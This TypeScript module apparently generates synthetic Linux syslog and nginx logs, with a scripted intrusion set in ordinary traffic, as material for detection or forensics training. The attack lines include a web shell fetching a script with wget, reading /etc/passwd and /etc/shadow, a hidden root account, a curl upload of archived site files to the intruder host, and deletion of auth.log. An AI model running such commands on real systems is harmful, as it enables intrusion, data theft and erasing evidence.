import { GUESSER, HOURS, INTRUDER, JUMP_HOST, START_MS, WEB_SERVER, WORKSTATIONS, at } from './cast.ts';
import type { Random } from './random.ts';

/** One message of the web server before it is written down. */
export interface LinuxMessage {
  readonly ts: number;
  readonly program: string;
  readonly pid: number;
  readonly text: string;
}

const HOUR_MS = 3_600_000;

/** PRI of RFC 5424 by program: facility * 8 + severity 6 (informational). */
const PRIORITIES: Readonly<Record<string, number>> = {
  sshd: 86,
  sudo: 86,
  useradd: 86,
  cron: 78,
  crontab: 78,
};
const DAEMON_INFO = 30;

const PAGES: readonly [string, ...string[]] = [
  '/',
  '/products',
  '/products?category=chairs&page=2',
  '/contact',
  '/static/site.css',
  '/static/logo.png',
  '/search?q=desk+lamp',
  '/basket?add=1184',
];
const AGENTS: readonly [string, ...string[]] = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/136.0',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/134.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15',
];

interface Request {
  readonly from: string;
  readonly request: string;
  readonly status: number;
  readonly size: number;
  readonly agent: string;
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** `10/Mar/2025:06:00:00 +0000`, the time of the combined log format. */
function accessTime(ts: number): string {
  const [date = '', time = ''] = new Date(ts).toISOString().split('T');
  const [year = '', month = '', day = ''] = date.split('-');
  return `${day}/${MONTHS[Number(month) - 1] ?? ''}/${year}:${time.slice(0, 8)} +0000`;
}

function access(ts: number, { from, request, status, size, agent }: Request): LinuxMessage {
  const text = `${from} - - [${accessTime(ts)}] "${request} HTTP/1.1" ${status} ${size} "-" "${agent}"`;
  return { ts, program: 'nginx', pid: 912, text };
}

function ssh(ts: number, pid: number, text: string): LinuxMessage {
  return { ts, program: 'sshd', pid, text };
}

function sudo(ts: number, user: string, folder: string, command: string): LinuxMessage {
  const text = `${user} : TTY=${user === 'www-data' ? 'unknown' : 'pts/0'} ; PWD=${folder} ; USER=root ; COMMAND=${command}`;
  return { ts, program: 'sudo', pid: 20_000 + (ts % 9_000), text };
}

function visitor(ts: number, random: Random): LinuxMessage {
  const from = random.chance(0.3)
    ? random.pick(WORKSTATIONS).address
    : `203.0.113.${random.between(100, 220)}`;
  const missing = random.chance(0.05);
  return access(ts, {
    from,
    request: `GET ${missing ? '/favicon.ico' : random.pick(PAGES)}`,
    status: missing ? 404 : 200,
    size: random.between(300, 24_000),
    agent: random.pick(AGENTS),
  });
}

/** A day and a half of a small web server: visitors, cron, backups, maintenance, the usual knocking at the door. */
export function linuxBackground(random: Random): readonly LinuxMessage[] {
  const messages: LinuxMessage[] = [];
  for (let hour = 0; hour < HOURS; hour += 1) {
    const startMs = START_MS + hour * HOUR_MS;
    const moment = (): number => startMs + random.between(0, HOUR_MS - 1);
    for (let count = random.between(18, 30); count > 0; count -= 1) messages.push(visitor(moment(), random));
    for (let quarter = 0; quarter < 4; quarter += 1) {
      const ts = startMs + quarter * 900_000 + 1_000;
      messages.push({
        ts,
        program: 'cron',
        pid: 3_000 + hour * 4 + quarter,
        text: '(root) CMD (/usr/lib/stats/sa1 1 1)',
      });
    }
    messages.push({ ts: startMs + 17_000, program: 'systemd', pid: 1, text: 'Started Rotate log files.' });
    messages.push(...backup(startMs + 300_000, random));
    if (random.chance(0.5)) {
      const from = `203.0.113.${random.between(100, 220)}`;
      messages.push(
        ssh(
          moment(),
          random.between(5_000, 9_000),
          `Invalid user ubnt from ${from} port ${random.between(30_000, 60_000)}`,
        ),
      );
    }
  }
  return [
    ...messages,
    sudo(at(1, 8, 15, 4), 'admin-ops', '/home/admin-ops', '/usr/bin/apt update'),
    sudo(at(1, 8, 17, 40), 'admin-ops', '/home/admin-ops', '/usr/bin/systemctl restart nginx'),
    sudo(at(1, 15, 2, 11), 'admin-ops', '/home/admin-ops', '/usr/bin/tail -n 200 /var/log/auth.log'),
    {
      ts: at(1, 8, 40),
      program: 'useradd',
      pid: 7_011,
      text: 'new user: name=deploy, UID=1004, GID=1004, home=/home/deploy, shell=/bin/bash',
    },
  ];
}

function backup(ts: number, random: Random): readonly LinuxMessage[] {
  const pid = random.between(9_000, 19_000);
  const port = random.between(40_000, 60_000);
  return [
    ssh(
      ts,
      pid,
      `Accepted publickey for svc-backup from ${JUMP_HOST} port ${port} ssh2: ED25519 SHA256:sample`,
    ),
    ssh(ts + 400, pid, 'pam_unix(sshd:session): session opened for user svc-backup(uid=998) by (uid=0)'),
    ssh(ts + 31_000, pid, 'pam_unix(sshd:session): session closed for user svc-backup'),
  ];
}

const GUESSED: readonly [string, ...string[]] = ['root', 'admin', 'test', 'oracle', 'svc-backup', 'git'];

/** Day 1, 20:00: an hour of guessing; it ends with a hit. */
function guessing(random: Random): readonly LinuxMessage[] {
  const messages: LinuxMessage[] = [];
  for (let round = 0; round < 45; round += 1) {
    const ts = at(1, 20, 0) + round * 80_000;
    const user = random.pick(GUESSED);
    const known = user === 'root' || user === 'svc-backup';
    const who = known ? user : `invalid user ${user}`;
    const pid = 11_000 + round;
    const port = random.between(30_000, 60_000);
    for (let attempt = 0; attempt < 6; attempt += 1) {
      messages.push(
        ssh(ts + attempt * 2_500, pid, `Failed password for ${who} from ${GUESSER} port ${port} ssh2`),
      );
    }
    const text = `error: maximum authentication attempts exceeded for ${who} from ${GUESSER} port ${port} ssh2 [preauth]`;
    messages.push(ssh(ts + 15_200, pid, text));
  }
  return [
    ...messages,
    ssh(at(1, 21, 4, 12), 11_900, `Accepted password for svc-backup from ${GUESSER} port 48122 ssh2`),
    ssh(
      at(1, 21, 4, 13),
      11_900,
      'pam_unix(sshd:session): session opened for user svc-backup(uid=998) by (uid=0)',
    ),
  ];
}

/** Day 1, 19:20 and 22:10: a scan, an upload, a web shell and what it is used for. */
function webShell(): readonly LinuxMessage[] {
  const scanner = { from: INTRUDER, agent: 'sqlmap/1.8.11#stable (https://sqlmap.org)' };
  const browser = { from: INTRUDER, agent: AGENTS[1] ?? '' };
  const scan = Array.from({ length: 40 }, (_, index) =>
    access(at(1, 19, 20, 0) + index * 1_500, {
      ...scanner,
      request: `GET /products?category=${index}%27`,
      status: index % 7 === 0 ? 500 : 200,
      size: 512,
    }),
  );
  const commands = ['id', 'uname%20-a', 'cat%20/etc/passwd', 'wget%20http://198.51.100.23/l.sh'];
  return [
    ...scan,
    access(at(1, 22, 10, 3), { ...browser, request: 'POST /upload', status: 302, size: 0 }),
    ...commands.map((command, index) =>
      access(at(1, 22, 10, 40 + index * 4), {
        ...browser,
        request: `GET /uploads/banner.php?cmd=${command}`,
        status: 200,
        size: 340,
      }),
    ),
    sudo(at(1, 22, 14, 20), 'www-data', '/var/www/html/uploads', '/usr/bin/cat /etc/shadow'),
    { ts: at(1, 22, 16, 2), program: 'crontab', pid: 12_114, text: '(www-data) REPLACE (www-data)' },
    {
      ts: at(1, 22, 18, 44),
      program: 'useradd',
      pid: 12_190,
      text: 'new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=none',
    },
  ];
}

/** Day 2, 01:30: packed, sent, and the log of it removed. */
function theftAndCleanUp(): readonly LinuxMessage[] {
  return [
    sudo(at(2, 1, 30, 5), 'svc-backup', '/tmp', '/usr/bin/tar czf /tmp/.c/site.tgz /var/www /etc'),
    sudo(at(2, 1, 36, 18), 'svc-backup', '/tmp', `/usr/bin/curl -T /tmp/.c/site.tgz https://${INTRUDER}/u`),
    sudo(at(2, 1, 50, 2), 'svc-backup', '/tmp', '/usr/bin/rm -f /var/log/auth.log'),
  ];
}

/** What the intruder does on the web server. */
export function linuxAttack(random: Random): readonly LinuxMessage[] {
  return [...guessing(random), ...webShell(), ...theftAndCleanUp()];
}

/** The message as RFC 5424 writes it, with the year that RFC 3164 leaves out. */
export function toSyslogLine({ ts, program, pid, text }: LinuxMessage): string {
  const priority = PRIORITIES[program] ?? DAEMON_INFO;
  return `<${priority}>1 ${new Date(ts).toISOString()} ${WEB_SERVER.name} ${program} ${pid} - - ${text}`;
}
